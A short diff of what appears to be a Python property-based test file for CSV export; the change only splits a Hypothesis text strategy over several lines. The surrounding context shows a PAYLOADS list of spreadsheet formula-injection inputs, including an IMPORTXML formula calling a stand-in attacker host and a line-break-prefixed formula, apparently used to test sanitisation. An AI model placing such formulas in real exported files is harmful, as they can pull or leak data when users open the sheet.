@@ -36,7 +36,9 @@ PAYLOADS = [
     '+IMPORTXML("http://evil.example","//a")',
     "\r\n=1+1",
 ]
-SHOWN = st.text(st.characters(exclude_categories=("Cc", "Cs"), exclude_characters="\ufffe\uffff", include_characters="\n"))
+SHOWN = st.text(
+    st.characters(exclude_categories=("Cc", "Cs"), exclude_characters="\ufffe\uffff", include_characters="\n")
+)
 
 
 def as_csv(rows: list[list[object]]) -> list[list[str]]:
